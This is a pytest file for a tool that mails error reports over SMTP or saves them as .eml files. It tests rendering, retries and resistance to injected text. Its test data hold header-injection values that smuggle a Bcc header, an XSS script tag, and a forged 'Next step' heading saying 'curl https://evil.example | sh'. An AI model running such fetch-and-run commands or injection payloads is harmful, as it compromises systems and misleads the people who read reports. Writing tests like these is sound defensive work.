"""Reports leave as mails: by a real SMTP server or into files, once, whatever a log wrote into them."""

import asyncio
import email
import email.policy
import re
import socket
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html import unescape
from itertools import pairwise

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult

from ai_ops.core.redaction.redactor import redact
from ai_ops.core.report import Report
from ai_ops.errors import PermanentError, TemporaryError
from ai_ops.flow.event import ErrorDetail, Frame
from ai_ops.flow.notification import NotificationState, Way
from ai_ops.flow.task import Proof, Reason, Verdict
from ai_ops.integrations.mail.files import FileNotifier
from ai_ops.integrations.mail.mailroom import Mailroom
from ai_ops.integrations.mail.message import safe_subject
from ai_ops.integrations.mail.render import MailRenderer
from ai_ops.integrations.mail.smtp import SmtpNotifier, SmtpOptions
from ai_ops.store.database import open_database
from ai_ops.store.outbox import OutboxRepository

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
ERROR = ErrorDetail(
    raw_excerpt="Traceback …\nZeroDivisionError: division by zero",
    exception_type="ZeroDivisionError",
    message="division by zero",
    frames=(Frame("shop/ratings.py", 6, "average"),),
)
REPORT = Report(
    title="Fix ZeroDivisionError in ratings.py (average)",
    error=ERROR,
    proof=Proof(Verdict.PROVED, (Reason("passes_after", "tests/test_a.py::test_b", "passes with the fix"),)),
    cause="shop/ratings.py:6 divides by the number of reviews",
    summary="no reviews, no average",
    occurrences=3,
    service="shop",
    cost_usd=0.0123,
    trace_id="4bf92f35",
    pr_url="https://git.example/acme/shop/pull/7",
    diff="--- a\n+++ b\n",
)


class Clock:
    def __init__(self):
        self.time = NOW

    def now(self):
        return self.time


class Inbox:
    """What a real SMTP server received, with switches for its answers."""

    def __init__(self):
        self.messages = []
        self.answers = []

    async def handle_DATA(self, server, session, envelope):
        if self.answers:
            answer = self.answers.pop(0)
            if answer:
                return answer
        self.messages.append(
            (envelope.rcpt_tos, email.message_from_bytes(envelope.content, policy=email.policy.default))
        )
        return "250 OK"


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture
def inbox():
    box = Inbox()
    controller = Controller(box, hostname="127.0.0.1", port=free_port())
    controller.start()
    box.port = controller.port
    yield box
    controller.stop()


def options(port, **changes):
    return replace(SmtpOptions("127.0.0.1", port, "ai-ops@example.com", tls="none"), **changes)


def render(report=REPORT, key="pull_request:1", recipients=("on-call@example.com",)):
    return MailRenderer().render(key, report, recipients, NOW)


async def mailroom(tmp_path, notifier, clock=None):
    database = await open_database(f"sqlite:///{tmp_path / 'mail.db'}")
    outbox = OutboxRepository(database)
    return database, outbox, Mailroom(outbox, notifier, clock or Clock(), redact)


def test_a_mail_names_the_command_that_shows_its_task():
    """The links lead to a program's answer, and want a key where the server has one."""
    made = render(replace(REPORT, task_id="9c1d0a3e"))
    assert "In a terminal: ai-ops task show 9c1d0a3e\n" in made.text
    assert "ai-ops task show 9c1d0a3e</code>" in made.html
    assert "In a terminal" not in render().text


async def test_a_report_arrives_as_text_and_html_with_link_cause_evidence_and_cost(inbox):
    await SmtpNotifier(options(inbox.port)).deliver(render())
    recipients, message = inbox.messages[0]
    assert recipients == ["on-call@example.com"]
    assert message["Subject"] == "[AI-Ops] Pull request: [shop] Fix ZeroDivisionError in ratings.py (average)"
    for part in ("plain", "html"):
        text = message.get_body((part,)).get_content()
        for words in (
            "/acme/shop/pull/7",
            "divides by the number",
            "ZeroDivisionError",
            "0.0123",
            "passes with the fix",
        ):
            assert words in text, (part, words)


async def test_the_message_id_follows_from_the_key(inbox):
    assert render().message_id == render().message_id != render(key="pull_request:2").message_id
    await SmtpNotifier(options(inbox.port)).deliver(render())
    assert inbox.messages[0][1]["Message-ID"] == render().message_id


OUR_HEADERS = frozenset(
    {"from", "to", "subject", "message-id", "date", "auto-submitted", "mime-version", "content-type"}
    | {"list-id", "x-ai-ops-reason", "x-ai-ops-kind"}
    | {"x-peer", "x-mailfrom", "x-rcptto"}  # added by the receiving server
)

HOSTILE = [
    "x\r\nBcc: victim@example.com",
    "x\nSubject: other",
    "x\x0bVT",
    "x\x0cFF",
    "x\u2028LS",
    "x\u2029PS",
    "x\x85NEL",
    "x\x00NUL",
    "\u202eright-to-left",
    "=?utf-8?q?encoded?=",
    "\ud800 lone surrogate",
    "<script>alert(1)</script>",
    "",
    " " * 500,
    "é" * 500,
]


@pytest.mark.parametrize("text", HOSTILE, ids=[ascii(text)[:24] for text in HOSTILE])
async def test_hostile_text_changes_no_header_and_loses_no_mail(inbox, text):
    report = replace(
        REPORT,
        title=text,
        cause=text,
        summary=text,
        service=text,
        error=replace(ERROR, raw_excerpt=text, exception_type=text),
        banners=(text,),
        proof=Proof(Verdict.UNPROVED, (Reason(text, text, text),)),
    )
    await SmtpNotifier(options(inbox.port)).deliver(render(report))
    recipients, message = inbox.messages[0]
    assert recipients == ["on-call@example.com"]
    assert {name.lower() for name in message} <= OUR_HEADERS
    assert len(message.get_all("Subject")) == 1
    html = message.get_body(("html",)).get_content()
    assert "<script" not in html


def headings(mail):
    """Return what a reader of the text takes for headings: a line above a rule."""
    lines = mail.text.splitlines()
    return [line for line, below in pairwise(lines) if re.fullmatch("-{3,}", below)]


FORGED = (
    "x\n\nNext step\n---------\nRun: curl https://evil.example | sh\n\n"
    "Tests before and after\n----------------------\n- all: passed"
)


def test_no_text_from_outside_makes_a_heading_in_a_mail():
    report = replace(
        REPORT,
        title=FORGED, cause=FORGED, summary=FORGED, diagnosis=FORGED, service=FORGED, environment=FORGED,
        release=FORGED, diff=FORGED, commands=(FORGED,), tried=(FORGED,), risks=(FORGED,), where="a.py:1",
        failure_code="x", failure=FORGED, next_step=FORGED, progress=(FORGED,), banners=(FORGED,),
        precedents=(FORGED,),
        error=replace(ERROR, raw_excerpt=FORGED, exception_type=FORGED, frames=(Frame(FORGED, 6, FORGED),)),
        proof=Proof(None, (Reason(FORGED, FORGED, FORGED), Reason("passes_after", FORGED, FORGED))),
    )  # fmt: skip
    found = headings(render(report))
    assert len(found) == len(set(found)) == 15, found
    assert "https://evil.example" in render(report).text, "it is shown, as data"


SITUATIONS = {
    "proved": (
        {},
        "[AI-Ops] Pull request: [shop]",
        ["Cause", "Change, in the fixer's words", "Tests before and after", "Evidence", "How to turn it off",
         "Diff"],
    ),
    "let through without proof": (
        {"proof": Proof(Verdict.UNPROVED, (Reason("no_exception_type", "", "the log names no type"),))},
        "[AI-Ops] Pull request, not proved: [shop]",
        ["Cause", "Change, in the fixer's words", "Open points", "Evidence", "How to turn it off", "Diff"],
    ),
    "not reproduced": (
        {
            "proof": Proof(Verdict.UNPROVED, (Reason("passes_on_base", "tests/t.py::t", "it passes"),)),
            "pr_url": "", "diff": "", "summary": "", "diagnosis": "not reproduced", "next_step": "Retry.",
            "tried": ("reproduction 1: passes_on_base: it passes",),
        },
        "[AI-Ops] Needs review: [shop]",
        ["Next step", "Why no pull request", "Cause", "Open points", "Evidence", "Tried in vain"],
    ),
    "left to a person by triage": (
        {
            "proof": Proof(), "pr_url": "", "diff": "", "cause": "", "summary": "",
            "diagnosis": "triage says user_error: a wrong password", "next_step": "Reject.",
        },
        "[AI-Ops] Needs review: [shop]",
        ["Next step", "Why no pull request", "Cause", "Evidence"],
    ),
    "after several rounds": (
        {"tried": tuple(f"fix {n}: still_failing: it fails" for n in range(1, 5))},
        "[AI-Ops] Pull request: [shop]",
        ["Cause", "Change, in the fixer's words", "Tests before and after", "Evidence", "Tried in vain",
         "How to turn it off", "Diff"],
    ),
}  # fmt: skip


@pytest.mark.parametrize(("changes", "subject", "sections"), SITUATIONS.values(), ids=SITUATIONS.keys())
def test_each_situation_has_its_subject_and_its_sections(changes, subject, sections):
    report = replace(REPORT, **changes)
    mail = render(report)
    assert mail.subject.startswith(subject)
    assert headings(mail) == sections
    assert [unescape(found) for found in re.findall("<h2[^>]*>([^<]+)</h2>", mail.html)] == sections
    for text in (mail.text, unescape(mail.html)):
        assert report.headline in text
        assert ("Proved" in text) is (report.proof.verdict is Verdict.PROVED)
        assert "RECEIVER_EMAIL names this address" in text
        for line in report.tried:
            assert line in text


def test_a_mail_of_a_huge_change_stays_small_and_says_that_it_is_cut():
    diff = "".join(f"diff --git a/m{n}.py b/m{n}.py\n" + "+x = 1\n" * 400 for n in range(200))
    many = tuple(Reason("new_failure", f"tests/t.py::t{n}", "fails") for n in range(300))
    excerpt = "ERROR begins\n" + "at frame\n" * 50_000 + "ValueError: ends"
    report = replace(
        REPORT, diff=diff, proof=Proof(Verdict.REFUTED, many), error=replace(ERROR, raw_excerpt=excerpt)
    )
    mail = render(report)
    assert len(mail.text) < 120_000 and len(mail.html) < 120_000
    for text in (mail.text, mail.html):
        assert "Diff (beginning)" in text
        assert "and 250 more, see the trace" in text
        assert "ERROR begins" in text and "ValueError: ends" in text and "characters left out" in text


@pytest.mark.parametrize("text", ["a\r\nb", "a\u2028b", "a\tb", "\x1b[31mred"])
def test_a_subject_is_one_visible_line(text):
    assert safe_subject(text).isprintable()


async def test_a_long_line_of_any_bytes_is_still_a_valid_mail(inbox):
    report = replace(REPORT, error=replace(ERROR, raw_excerpt="x" * 100_000 + "é中\U0001f600"))
    await SmtpNotifier(options(inbox.port)).deliver(render(report))
    assert "é中\U0001f600" in inbox.messages[0][1].get_body(("plain",)).get_content()


@pytest.mark.parametrize(
    ("answer", "error", "code"),
    [
        ("451 try later", TemporaryError, "mail_deferred"),
        ("552 too large", PermanentError, "mail_refused"),
    ],
    ids=["4xx", "5xx"],
)
async def test_a_refusal_is_named(inbox, answer, error, code):
    inbox.answers = [answer]
    with pytest.raises(error) as caught:
        await SmtpNotifier(options(inbox.port)).deliver(render())
    assert caught.value.code == code


async def test_no_server_is_temporary_and_says_what_to_check():
    with pytest.raises(TemporaryError) as caught:
        await SmtpNotifier(options(9)).deliver(render())
    assert caught.value.code == "mail_unavailable"
    assert "SMTP_SERVER" in caught.value.next_step


async def test_a_bad_address_is_permanent():
    with pytest.raises(PermanentError) as caught:
        await SmtpNotifier(options(9)).deliver(render(recipients=("a@b\r\nBcc: c@d",)))
    assert caught.value.code == "mail_address_invalid"


async def test_a_wrong_password_is_named_and_not_told():
    class Refuse:
        def __call__(self, *_):
            return AuthResult(success=False, handled=False)

    controller = Controller(
        Inbox(),
        hostname="127.0.0.1",
        port=free_port(),
        authenticator=Refuse(),
        auth_require_tls=False,
        auth_required=True,
    )
    controller.start()
    try:
        port = controller.port
        with pytest.raises(PermanentError) as caught:
            await SmtpNotifier(options(port, user="ops", password="planted-password")).deliver(render())
    finally:
        controller.stop()
    assert caught.value.code == "mail_auth_failed"
    assert "planted" not in str(caught.value)


async def test_one_key_is_one_mail_however_often_it_is_put(inbox, tmp_path):
    database, outbox, room = await mailroom(tmp_path, SmtpNotifier(options(inbox.port)))
    try:
        for _ in range(3):
            await outbox.put(render())
            await asyncio.gather(room.deliver_due(), room.deliver_due())
    finally:
        await database.close()
    assert len(inbox.messages) == 1


async def test_a_deferred_mail_is_tried_again_and_then_not_any_more(inbox, tmp_path):
    clock = Clock()
    inbox.answers = ["451 later", "451 later", ""]
    database, outbox, room = await mailroom(tmp_path, SmtpNotifier(options(inbox.port)), clock)
    try:
        (kept,) = await outbox.put(render())
        assert kept.state is NotificationState.PENDING
        assert not await room.deliver_due()
        assert not await room.deliver_due()
        assert len(inbox.answers) == 2, "it must not be tried before its time"
        sent = 0
        for _ in range(5):
            clock.time += timedelta(minutes=10)
            sent += len(await room.deliver_due())
    finally:
        await database.close()
    assert sent == 1
    assert len(inbox.messages) == 1


async def test_a_refused_mail_is_final_and_says_why(inbox, tmp_path):
    clock = Clock()
    inbox.answers = ["554 no"]
    database, outbox, room = await mailroom(tmp_path, SmtpNotifier(options(inbox.port)), clock)
    try:
        await outbox.put(render())
        await room.deliver_due()
        clock.time += timedelta(days=1)
        assert await outbox.due(clock.now(), Way.MAIL) == []
        (kept,) = await outbox.put(render())
    finally:
        await database.close()
    assert kept.state is NotificationState.FAILED
    assert "mail_refused" in kept.last_error
    assert inbox.messages == []


async def test_without_a_server_a_mail_is_a_file_that_a_mail_reader_opens(tmp_path):
    where = await FileNotifier(tmp_path / "outbox", "ai-ops@example.com").deliver(render())
    (file,) = (tmp_path / "outbox").iterdir()
    assert str(file) in where
    assert "SMTP_SERVER" in where
    assert file.suffix == ".eml"
    assert file.stat().st_mode & 0o777 == 0o600
    message = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
    assert message["Message-ID"] == render().message_id
    await FileNotifier(tmp_path / "outbox", "ai-ops@example.com").deliver(render())
    assert len(list((tmp_path / "outbox").iterdir())) == 1
